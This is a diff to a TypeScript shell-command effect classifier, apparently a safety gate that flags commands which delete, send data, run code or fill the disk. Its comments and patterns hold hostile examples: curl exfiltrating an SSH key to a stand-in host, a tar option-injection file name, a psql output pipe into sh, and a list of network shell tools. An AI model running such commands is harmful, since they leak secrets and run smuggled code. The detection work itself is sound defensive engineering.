@@ -5,13 +5,13 @@
  * "unknown": a reason to ask, never a reason to run.
  */
 import { isFile } from "./files.ts";
-import { existsSync, readdirSync, realpathSync, statSync } from "node:fs";
+import { existsSync, lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
 import { basename, dirname, isAbsolute, join, resolve } from "node:path";
 import { findStarts, type SimpleCommand } from "./shell-syntax.ts";
 import { writeDanger } from "./paths.ts";
 import { ownFile, programName, runnerSubcommand } from "./wrappers.ts";
 import { MORE } from "./effect-table-more.ts";
-import { BUILD_SCRIPT, type Look, readsOnlyInput, SCRIPT_RUNNERS, SPECIAL, SPECIAL_BY_NAME } from "./effect-specials.ts";
+import { BUILD_SCRIPT, type Look, readsOnlyInput, SCRIPT_RUNNERS, SPECIAL, SPECIAL_BY_NAME, sqliteCopies } from "./effect-specials.ts";
 import { exposes } from "./exposure.ts";
 import { changesSettings } from "./settings-files.ts";
 import { type Row, TABLE } from "./effect-table.ts";
@@ -28,6 +28,10 @@ import { pdmRunsScript } from "./task-runners.ts";
 import { dryRunRuns, lintFetches } from "./dry-run-inputs.ts";
 import { buildsProject } from "./py-build.ts";
 import { committedAsIs, editedInPlace } from "./committed.ts";
+import { asksOnlyHelp } from "./help-words.ts";
+import { NO_FRESH } from "./fresh-dirs.ts";
+import { plainSsh } from "./plain-ssh.ts";
+import { deletesBuiltByName } from "./build-finds.ts";
 
 export type Effect = "reads" | "writes" | "deps" | "moves" | "outside" | "undoes" | "deletes" | "history" | "system" | "sends" | "runs" | "outlives" | "settings" | "installs" | "unknown";
 
@@ -169,7 +173,14 @@ function tableEffects(argv: string[]): Effects {
   // An installed program asked only for its help or version prints it, whatever else it does: a convention of every
   // CLI. Not a path (`./deploy.sh --help`): the project's own scripts keep no such promise.
   if (!row) return argv.length === 2 && /^--(?:help|version)$/.test(argv[1]!) && !argv[0]!.includes("/") ? { effects: ["reads"] } : { effects: ["unknown"], unknown: `\`${name}\`` };
+  // Its help or version, after its subcommands too (help-words.ts): `gh auth login --help`, `mail -V`.
+  if (asksOnlyHelp(argv, (rest) => tableEffects(rest).effects, Boolean(row.sub || row.verbs))) return { effects: ["reads"] };
   const all = argv.slice(1);
+  // rsync told to reach the other side with a plain ssh (`-e 'ssh -v -p 2222'`, plain-ssh.ts) runs nothing else: judged without it.
+  if (name === "rsync") {
+    const e = all.findIndex((a, i) => (/^(?:-e|--rsh)$/.test(all[i - 1] ?? "") || /^--rsh=|^-e./.test(a)) && plainSsh(a.replace(/^--rsh=|^-e/, "")));
+    if (e >= 0) return effectsOfArgv([argv[0]!, ...all.filter((_a, i) => i !== e && !(i === e - 1 && /^(?:-e|--rsh)$/.test(all[i]!)))]);
+  }
   const path = [name];
   let args = all;
   let dry = row.dry ?? "";
@@ -505,6 +516,15 @@ export const COPIERS = /^(?:cp|mv|ln|install|rsync)$/;
 /** Network clients: a word made when the line runs can carry local data out (`curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`). */
 const NETWORK = /^(?:curl|wget|http|https|xh|httpie|dig|nslookup|host|ping|ping6|traceroute|tracepath|mtr|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|whois|openssl|git|gh|aws|gcloud|az|getent|resolvectl|drill|kdig|delv|ssh-keyscan|ntpdate|sntp|nmap|docker|podman)$/;
 
+/** The person's own login name or id, as a word made when the line runs: no data of the folder's or a secret. */
+const IDENTITY = /^"?(?:\$\{?(?:USER|LOGNAME|UID)\}?|\$\((?:whoami|id -u|id -un|id -nu)\))"?$/;
+
+/**
+ * getent asked of a database the machine keeps (`getent passwd "$USER"`, `group`, `services`), as `id` is: only its
+ * hosts and networks are looked up in the DNS. (With `-s`, which names the service asked, it may be any.)
+ */
+const localLookup = (name: string, args: string[]) => name === "getent" && !args.some((a) => /^(?:-s|--service)/.test(a)) && /^(?:passwd|group|shadow|gshadow|services|protocols|rpc|ethers|aliases|initgroups|shells)$/.test(args.find((a) => !a.startsWith("-")) ?? "");
+
 /**
  * Whether a program sends what it reads on stdin: a raw connection or a remote shell, `openssl s_client`, and an HTTP
  * client told to upload stdin (`curl -d @-`, `-T -`). (`openssl x509` and `git apply` read theirs for local work.)
@@ -557,6 +577,77 @@ function lastOperandWrite(name: string, cmd: SimpleCommand, cwd: string, root = 
   // (Anything at the folder's name, a file too, and the files below it may be what it names.)
   if (dynamic) return existsSync(join(cwd, fixed.replace(/\/+$/, "") || ".")) ? "deletes" : "writes";
   return isFile(join(cwd, fixed)) && !regenerable([fixed], cwd) ? "deletes" : "writes";
+}
+
+/** The paths `git clean` is given (after its options and their values, or after `--`). */
+const cleaned = (args: string[]) => {
+  const rest = args.slice(args.indexOf("clean") + 1);
+  const end = rest.indexOf("--");
+  return end >= 0 ? rest.slice(end + 1) : rest.filter((a, i) => !a.startsWith("-") && !/^-(?:e|-exclude)$/.test(rest[i - 1] ?? ""));
+};
+
+/** `git clean -f PATHS` (no `-C`, `--git-dir` or `--work-tree` before it), each path given. */
+const cleansBuilt = (name: string, args: string[], dynamic: boolean[], _cwd: string) => name === "git" && args[0] === "clean" && !dynamic.some(Boolean) && cleaned(args).length > 0 && !args.some((a) => /^-[a-zA-Z]*i|^--interactive$/.test(a));
+
+/** How many bytes dd copies, by its bs= (or obs=/ibs=) and count= (NaN when aye cannot say). */
+function ddBytes(args: string[]): number {
+  const size = (v: string | undefined) => {
+    const m = /^(\d+)(?:(c)|(w)|(b)|([KMGT])(?:i?B)?|([kMGT])B)?$/.exec(v ?? "");
+    if (!m) return NaN;
+    const unit = m[2] ? 1 : m[3] ? 2 : m[4] ? 512 : m[5] ? 1024 ** ("KMGT".indexOf(m[5]) + 1) : m[6] ? 1000 ** ("kMGT".indexOf(m[6]) + 1) : 1;
+    return Number(m[1]) * unit;
+  };
+  const value = (key: string) => args.find((a) => a.startsWith(`${key}=`))?.slice(key.length + 1);
+  const bs = value("bs") ?? value("ibs") ?? "512";
+  return size(bs) * size(value("count"));
+}
+
+/** Whether anything is at `path`, a dangling link too. */
+const lexists = (path: string) => {
+  try {
+    lstatSync(path);
+    return true;
+  } catch {
+    return false;
+  }
+};
+
+/**
+ * Whether `ln -f` would replace something: the names it makes are the last operand (or what lies in it, if it is a
+ * folder), each source's name in the folder `-t` names, or the only source's name here. Anything at the last operand
+ * counts, a folder too; so does a name made when the line runs, or a pattern.
+ */
+function linkReplaces(args: string[], dynamic: boolean[], cwd: string, fresh: ReadonlySet<string>): boolean {
+  if (dynamic.some(Boolean)) return true;
+  const valued = /^(?:-t|--target-directory|-S|--suffix)$/;
+  const operands = args.filter((a, i) => !a.startsWith("-") && !valued.test(args[i - 1] ?? ""));
+  if (operands.some((o) => PATTERN.test(o))) return true;
+  const t = args.findIndex((a) => a === "-t" || a === "--target-directory");
+  const dir = t >= 0 ? args[t + 1] : args.find((a) => a.startsWith("--target-directory="))?.slice(19);
+  const at = (p: string) => (isAbsolute(p) ? p : join(cwd, p));
+  const names = dir !== undefined ? operands.map((o) => at(join(dir, basename(o)))) : operands.length === 1 ? [at(basename(operands[0]!))] : operands.slice(-1).map(at);
+  return !names.length || names.some((n) => lexists(n) || !fresh.has(dirname(n)));
+}
+
+/**
+ * The folder an unpacking command names for what it extracts (`tar -x … -C DIR`, `unzip … -d DIR`), once, and the same
+ * command told to keep what is there (`--keep-old-files`, `-n`).
+ */
+function unpacksInto(argv: string[]): { dir: string; keeping: string[] } | undefined {
+  const name = programName(argv[0] ?? "");
+  const args = argv.slice(1);
+  const valued = (short: string, long?: string) => args.flatMap((a, i) => (args[i - 1] === short || (long && args[i - 1] === long) ? [a] : a.startsWith(short) && a.length > short.length && !a.startsWith("--") ? [a.slice(short.length)] : long && a.startsWith(`${long}=`) ? [a.slice(long.length + 1)] : []));
+  if (/^(?:tar|bsdtar|gtar)$/.test(name)) {
+    // (Names it rewrites, `--transform`, are left to the row as they are.)
+    if (args.some((a) => /^--(?:transform|xform)|^-s$/.test(a))) return undefined;
+    const dirs = valued("-C", "--directory");
+    return dirs.length === 1 ? { dir: dirs[0]!, keeping: [...argv, "--keep-old-files"] } : undefined;
+  }
+  if (name === "unzip") {
+    const dirs = valued("-d");
+    return dirs.length === 1 ? { dir: dirs[0]!, keeping: [argv[0]!, "-n", ...args] } : undefined;
+  }
+  return undefined;
 }
 
 /** Whether a copy or move would replace a file that exists. */
@@ -665,13 +756,16 @@ const NO_HOSTS: ReadonlySet<string> = new Set();
  * writes outside the folder (`root`, the plan's, which holds `cwd` after a `cd`), replaces a file, runs under `sudo`
  * or `nohup`, or in the background. Every path it names is read from `cwd`, where it runs.
  */
-export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<string> = NO_HOSTS, root = cwd): Effects {
+export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<string> = NO_HOSTS, root = cwd, fresh: ReadonlySet<string> = NO_FRESH): Effects {
   // `python3 - <<'EOF'`, `psql app <<'SQL'`: what the line gives it to read is judged as what it is.
   // (So is what a plain echo or printf before it in the pipe prints: `printf 'SELECT 1;\n' | psql app`.)
   const text = cmd.stdinText !== undefined && !cmd.stdinFrom.length ? cmd.stdinText : printed(cmd.stdinFrom);
   const fed = text !== undefined && ((readsFromInput(cmd.argv) && readsOnlyInput(programName(cmd.argv[0] ?? ""), text)) || handGet(cmd.argv, text));
   // What xargs runs on the paths a find printed is judged with one of them added (`find app -name '*.php' | xargs -n1 php -l`).
-  const found: Effects = fed ? { effects: ["reads"] } : cmd.argv.length ? effectsOfArgv(foundPaths(cmd) ? [...cmd.argv, "./found"] : cmd.argv) : { effects: [] };
+  let found: Effects = fed ? { effects: ["reads"] } : cmd.argv.length ? effectsOfArgv(foundPaths(cmd) ? [...cmd.argv, "./found"] : cmd.argv) : { effects: [] };
+  // Unpacking into a folder the plan just made, empty (fresh-dirs.ts), replaces nothing: judged as if told to keep what is there.
+  const into = found.effects.includes("deletes") && !cmd.dynamic.some(Boolean) && !cmd.repeated ? unpacksInto(cmd.argv) : undefined;
+  if (into && fresh.has(resolve(cwd, into.dir))) found = effectsOfArgv(into.keeping);
   const effects = new Set(found.effects);
   const name = programName(cmd.argv[0] ?? "");
   const args = cmd.argv.slice(1);
@@ -691,7 +785,8 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   // (cmake's -D sets a cache variable, which names where it looks for what it builds with, not where it writes: only
   // the output and install folders it is told are places.)
   const places = [
-    ...args.flatMap((a, i) => (name === "cmake" && /^-D(?![\w]*(?:OUTPUT_DIRECTORY|INSTALL_PREFIX|_PREFIX|BINARY_DIR)\b)[\w]+(?::\w+)?=/.test(a) ? [] : a.startsWith("-") ? ((/^--?[\w.-]+=(.+)$/.exec(a) ?? /^-[a-zA-Z]+([/~].*)$/.exec(a))?.slice(1) ?? []) : cmd.dynamic[i + 1] ? ["$"] : [a, ...(/^[\w.-]+=([/~.].*)$/.exec(a)?.slice(1) ?? [])])),
+    // (dd reads its `if=`; a source of zeros or random bytes, /dev/zero, is no place it writes.)
+    ...args.flatMap((a, i) => (name === "dd" && /^if=\/dev\/(?:zero|u?random)$/.test(a) ? [] : name === "cmake" && /^-D(?![\w]*(?:OUTPUT_DIRECTORY|INSTALL_PREFIX|_PREFIX|BINARY_DIR)\b)[\w]+(?::\w+)?=/.test(a) ? [] : a.startsWith("-") ? ((/^--?[\w.-]+=(.+)$/.exec(a) ?? /^-[a-zA-Z]+([/~].*)$/.exec(a))?.slice(1) ?? []) : cmd.dynamic[i + 1] ? ["$"] : [a, ...(/^[\w.-]+=([/~.].*)$/.exec(a)?.slice(1) ?? [])])),
     ...(cmd.over ?? []),
     ...feeders,
   ];
@@ -703,6 +798,9 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   // git's moves in another repository (`git -C /srv/app pull`, `--git-dir=../x/.git`, `--work-tree=…`) act there.
   if ((effects.has("moves") || effects.has("undoes")) && places.some(away)) effects.add("outside");
   if (effects.has("reads") && PROGRAMS.get(name)?.verbs && operands.some((p) => writeDanger(p) || /^(?:~|\$HOME)/.test(p))) effects.add("outside");
+  // ln -f replaces the names it makes where one is there (a file, a folder, a dangling link); a new name loses nothing, but
+  // the force says one may be: only in a folder the plan just made (fresh-dirs.ts) is it sure to be new.
+  if (name === "ln" && hasOption(args, "-f --force") && linkReplaces(args, cmd.dynamic.slice(1), cwd, fresh)) effects.add("deletes");
   // Over what a build made (`cp -r assets/ dist/`), a copy loses nothing.
   if (COPIERS.test(name) && replaces(args, cwd) && !regenerable(operands.slice(-1), cwd)) effects.add("deletes");
   // git -c core.pager=… (an editor, a filter, an alias with !) runs the program it names, whatever git then does.
@@ -715,18 +813,24 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   // folder, or over a file that exists (`curl -o .env …`).
   // (A program's own short spellings: curl's -D and -c, psql's -L log.)
   const own = name === "curl" ? /^-[Dc]$/ : name === "psql" ? /^-L$/ : undefined;
+  // (dd's own spelling, `of=FILE`, where it writes: not a file aye need check for a path, `of=/dev/sda` is outside.)
+  const ddOut = name === "dd" ? args.flatMap((a) => (a.startsWith("of=") ? [a.slice(3) || "."] : [])) : [];
   // (And the files a program's own report options name: `nx graph --file=…`, `golangci-lint --out-format=fmt:PATH`.)
-  for (const file of [...outputFiles(args), ...(own ? args.filter((_a, i) => own.test(args[i - 1] ?? "")) : []), ...reportFiles(name, args)]) {
+  for (const file of [...outputFiles(args), ...ddOut, ...sqliteCopies(name, args), ...(own ? args.filter((_a, i) => own.test(args[i - 1] ?? "")) : []), ...reportFiles(name, args)]) {
     if (NOWHERE.test(file)) continue;
     // An output "file" that is a pipe runs its command (`psql -o '|sh -c …'`).
     if (file.startsWith("|")) effects.add("runs");
     if (!inside(file, cwd, true, root)) effects.add("outside");
-    else if (isFile(join(cwd, file)) && !regenerable([file], cwd)) effects.add("deletes");
+    // (A pattern or a word made when the line runs may name a file that is there; so may a path with a link on it.)
+    // (dd told to write into the file, not over it, `conv=notrunc` or `seek=`, writes into one that is there.)
+    else if (PATTERN.test(file) || /[$`]/.test(file) || (name === "dd" && (isDir(join(cwd, file)) || exists(file, cwd) || args.some((a) => /^(?:conv=.*notrunc|seek=|oseek=)/.test(a))))) effects.add("deletes");
+    // (An absolute path, `/tmp/x.db`, is where it says, not below the folder.)
+    else if (isFile(isAbsolute(file) ? file : join(cwd, file)) && !regenerable([file], cwd)) effects.add("deletes");
     else if (!effects.has("reads") || effects.size > 1) effects.add("writes");
   }
   // (A word folded from a constant, `$(printf '%s' gi t)`, `$(date +%F)`, carries nothing of here.)
   const constant = (f: SimpleCommand) => /^(?:echo|printf|date)$/.test(f.argv[0] ?? "") && !f.dynamic.some(Boolean) && !f.argsFrom.length && !f.stdinFrom.length && !f.redirects.length && !(f.wrappers ?? []).length;
-  if (NETWORK.test(name) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.some((f) => !constant(f))) && !identifiersOnly(cmd)) effects.add("sends");
+  if (NETWORK.test(name) && !(localLookup(name, args) && args.every((a, i) => !cmd.dynamic[i + 1] || IDENTITY.test(a))) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.some((f) => !constant(f))) && !identifiersOnly(cmd)) effects.add("sends");
   // What ssh's own options do here, whatever the remote runs: the agent or the environment handed to the host (`-A`,
   // `SendEnv`), a master left running (`-f`, `-M`, `ControlPersist`), a log written where `-E` says.
   for (const w of cmd.wrappers ?? []) {
@@ -764,7 +868,7 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   if (/^(?:curl|http|https|xh)$/.test(name) && args.some((a, i) => /^-[a-zA-Z]*@|^@|=@|^[\w-]+=?<\S/.test(a) || (/^--variable$/.test(args[i - 1] ?? "") && /[@%]/.test(a)) || /^--variable=.*[@%]/.test(a))) effects.add("sends");
   // An option that names a program for this one to run (`--upload-pack=…`, `--rsh-command`, `--script-shell`, `--use-askpass`).
   // (Go's and gcc's one-dash spellings too: `-toolexec=…`, `-exec …`, `-wrapper …`; pytest's `-o addopts=…` loads plugins.)
-  if (args.slice(0, args.indexOf("--") >>> 0).some((a) => RUNS_OPTION.test(a) || /^-(?:toolexec|wrapper)\b/.test(a) || (name === "go" && /^-exec\b/.test(a)) || /^addopts=/.test(a))) effects.add("runs");
+  if (args.slice(0, args.indexOf("--") >>> 0).some((a) => (RUNS_OPTION.test(a) && !(name === "rsync" && a.startsWith("--rsh=") && plainSsh(a.slice(6)))) || /^-(?:toolexec|wrapper)\b/.test(a) || (name === "go" && /^-exec\b/.test(a)) || /^addopts=/.test(a))) effects.add("runs");
   // Mercurial's and Subversion's settings given on the line: hooks, aliases to shell commands, extensions, tunnels.
   if (name === "hg" && args.some((a, i) => (args[i - 1] === "--config" || a.startsWith("--config=")) && /(?:^|=)(?:hooks|alias|extensions|ui\.(?:ssh|editor|merge)|pager)\./i.test(a.replace(/^--config=/, "")))) effects.add("runs");
   if (name === "svn" && args.some((a, i) => (args[i - 1] === "--config-option" || a.startsWith("--config-option=")) && /tunnels|diff-cmd|diff3-cmd|editor-cmd|merge-tool-cmd/i.test(a))) effects.add("runs");
@@ -775,9 +879,13 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   if (sendsInput(name, args) && ((cmd.stdinFrom.length && printed(cmd.stdinFrom) === undefined) || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<") && !NOWHERE.test(r.target)))) effects.add("sends");
   // HTTPie and xh make what they are given on stdin the body, and a POST of a GET: whatever it holds, it goes.
   if (/^(?:http|https|xh|xhs|httpie)$/.test(name) && !args.some((a) => /^-[a-zA-Z]*I|^--ignore-stdin$/.test(a)) && (cmd.stdinFrom.length || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<") && !NOWHERE.test(r.target)))) effects.add("sends");
-  if (name === "tee" && !args.some((a) => /^-[a-zA-Z]*a|^--append/.test(a)) && args.some((a) => !a.startsWith("-") && !NOWHERE.test(a) && exists(a, cwd))) effects.add("deletes");
-  // Deleting a build's output (`rm -rf dist`), every word known when aye judges it, only writes.
-  let rebuilt = DELETERS.test(name) && effects.has("deletes") && !cmd.dynamic.slice(1).some(Boolean) && regenerable(args.filter((a) => !a.startsWith("-")), cwd);
+  // (Over what a build made, `make 2>&1 | tee build/build.log`, as a redirection there, it loses nothing.)
+  if (name === "tee" && !args.some((a) => /^-[a-zA-Z]*a|^--append/.test(a)) && args.some((a) => !a.startsWith("-") && !NOWHERE.test(a) && exists(a, cwd) && !regenerable([a], cwd))) effects.add("deletes");
+  // Deleting a build's output (`rm -rf dist`), every word known when aye judges it, only writes; so does a find that
+  // deletes only what is named as a build's (build-finds.ts), and `git clean -f` of a build's folders.
+  const builtFind = name === "find" && !cmd.dynamic.some(Boolean) && deletesBuiltByName(cmd.argv, cwd, (p) => inside(p, cwd, false, root));
+  // (A find's -exec is judged as a command of its own, which to-shell.ts marks the same way.)
+  let rebuilt = builtFind || ((DELETERS.test(name) || cleansBuilt(name, args, cmd.dynamic, cwd)) && effects.has("deletes") && !cmd.dynamic.slice(1).some(Boolean) && regenerable(name === "git" ? cleaned(args) : args.filter((a) => !a.startsWith("-")), cwd, root));
   if (rebuilt) {
     effects.delete("deletes");
     effects.add("writes");
@@ -795,7 +903,7 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   const sentBefore = effects.has("sends");
   // (A dry run copies nothing, unless to another host, which it still tells what it would send.)
   const copies = !found.effects.every((e) => e === "reads") || cmd.redirects.some((r) => />/.test(r.op)) || args.some((a) => /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)|^\w+:\/\//.test(a));
-  const exposure = exposes(cmd, name, args, written, cwd, copies);
+  const exposure = exposes(cmd, name, args, written, cwd, copies, root);
   if (exposure) effects.add("sends");
   // A file named like an option (`touch -- --checkpoint-action=exec=sh`), which a later `tar -cf x.tar *` reads as one;
   // and a bare glob where such a file is already.
@@ -808,8 +916,9 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
     found.unknown ??= `a file named like an option (\`${optionNamed}\`), which a glob hands to programs as one`;
   }
   // Output without end into a file (`yes > x`, `cat /dev/zero > x`) fills the disk the folder is on.
-  const endless = name === "yes" || (/^(?:cat|tr|dd|pv|base64|od|xxd|tee)$/.test(name) && [...args, ...cmd.redirects.filter((r) => r.op.startsWith("<")).map((r) => r.target)].some((a) => /^(?:if=)?\/dev\/(?:zero|u?random)$/.test(a)) && !args.some((a) => /^count=/.test(a)));
-  if (endless && cmd.redirects.some((r) => />/.test(r.op) && !NOWHERE.test(r.target) && !/^&?\d*$/.test(r.target))) {
+  // (dd's count of blocks bounds it: one past a gibibyte, `bs=1M count=100000`, fills a disk as well.)
+  const endless = name === "yes" || (/^(?:cat|tr|dd|pv|base64|od|xxd|tee)$/.test(name) && [...args, ...cmd.redirects.filter((r) => r.op.startsWith("<")).map((r) => r.target)].some((a) => /^(?:if=)?\/dev\/(?:zero|u?random)$/.test(a)) && (!args.some((a) => /^count=/.test(a)) || (name === "dd" && !(ddBytes(args) <= 2 ** 30))));
+  if (endless && (cmd.redirects.some((r) => />/.test(r.op) && !NOWHERE.test(r.target) && !/^&?\d*$/.test(r.target)) || ddOut.some((f) => !NOWHERE.test(f)))) {
     effects.add("unknown");
     found.unknown ??= "what fills the disk: output without end, into a file";
   }
